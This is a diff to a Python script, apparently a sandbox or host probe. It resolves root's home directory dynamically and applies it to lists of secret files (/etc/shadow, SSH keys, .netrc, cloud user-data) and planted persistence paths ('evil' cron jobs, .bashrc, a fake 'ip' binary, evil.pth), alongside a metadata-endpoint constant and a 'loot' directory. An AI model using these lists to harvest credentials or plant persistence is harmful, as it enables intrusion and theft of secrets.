@@ -10,6 +10,7 @@ import glob
 import json
 import os
 import pathlib
+import pwd
 import socket
 import sqlite3
 import subprocess
@@ -24,16 +25,17 @@ META = f"http://{METADATA}"
 LOOT = pathlib.Path("/tmp/loot")
 WAIT_S = 5.0
 EC2 = "X-aws-ec2-metadata-token"
+ROOT_HOME = pwd.getpwuid(0).pw_dir
 PRIVATE = (
     "/etc/ssh/ssh_host_ed25519_key",
     "/etc/shadow",
     "/etc/sudoers",
     "/var/lib/cloud/instance/user-data.txt",
-    "/root/.ssh/authorized_keys",
+    f"{ROOT_HOME}/.ssh/authorized_keys",
     "/home/ubuntu/.ssh/authorized_keys",
     "/home/runner/.ssh/authorized_keys",
-    "/root/.netrc",
-    "/root/.config/pip/pip.conf",
+    f"{ROOT_HOME}/.netrc",
+    f"{ROOT_HOME}/.config/pip/pip.conf",
     "/etc/pip.conf",
 )
 PLANTED = (
@@ -44,7 +46,7 @@ PLANTED = (
     "/var/spool/cron/crontabs/evil",
     "/var/spool/cron/atjobs/evil",
     "/home/ubuntu/.bashrc",
-    "/root/.bashrc",
+    f"{ROOT_HOME}/.bashrc",
     "/usr/local/bin/ip",
     "/usr/lib/python3/dist-packages/evil.pth",
 )
@@ -160,7 +162,7 @@ def got_or_nothing(got: object) -> str:
 def homes() -> str:
     own = os.environ.get("HOME", "")
     got = []
-    for home in ("/root", *glob.glob("/home/*")):
+    for home in (ROOT_HOME, *glob.glob("/home/*")):
         if home != own:
             with contextlib.suppress(PermissionError):
                 got += [f"{home}/{name}" for name in os.listdir(f"{home}/.ssh")]
